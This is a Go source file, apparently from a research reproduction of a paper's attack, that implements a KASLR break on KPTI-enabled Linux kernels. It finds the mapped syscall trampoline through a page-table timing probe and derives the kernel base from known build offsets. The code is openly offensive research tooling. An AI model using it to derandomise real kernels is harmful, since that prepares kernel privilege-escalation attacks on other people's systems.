package core

import (
	"fmt"

	"repro/internal/fault"
	"repro/internal/linux"
	"repro/internal/paging"
)

// KPTIResult is the outcome of the KPTI-bypassing KASLR break (§IV-D).
type KPTIResult struct {
	// TrampolineVA is the mapped KPTI trampoline page the scan found.
	TrampolineVA paging.VirtAddr
	// Base is the kernel base derived from the trampoline's constant
	// offset.
	Base        paging.VirtAddr
	ProbeCycles uint64
	TotalCycles uint64
}

// KPTIBreak derandomizes KASLR on a KPTI-enabled kernel (§IV-D). KPTI
// leaves the trampoline (entry_SYSCALL_64) mapped in the user table at a
// build-constant offset from the kernel base; the page-table attack finds
// the only mapped slot in the kernel region, and subtracting the known
// offset yields the base.
//
// trampolineOffset is attacker knowledge for the victim kernel build
// (0xc00000 on Ubuntu 20.04, 0xe00000 on the EC2 AWS kernel).
func KPTIBreak(p *Prober, trampolineOffset uint64) (KPTIResult, error) {
	var res KPTIResult
	if err := p.M.Fire(fault.Probe); err != nil {
		return res, err
	}
	start := p.M.RDTSC()
	probeStart := p.M.RDTSC()
	for slot := 0; slot < linux.TextSlots; slot++ {
		va := linux.TextRegionBase + paging.VirtAddr(uint64(slot)<<21)
		pr := p.ProbeMapped(va)
		if pr.Fast {
			res.TrampolineVA = va
			break
		}
	}
	res.ProbeCycles = p.M.RDTSC() - probeStart
	res.TotalCycles = p.M.RDTSC() - start + KernelBaseResult{}.calibrationCycles(p)
	if res.TrampolineVA == 0 {
		return res, fmt.Errorf("core: no trampoline found in kernel region")
	}
	if uint64(res.TrampolineVA) < trampolineOffset {
		return res, fmt.Errorf("core: trampoline below expected offset")
	}
	res.Base = res.TrampolineVA - paging.VirtAddr(trampolineOffset)
	return res, nil
}
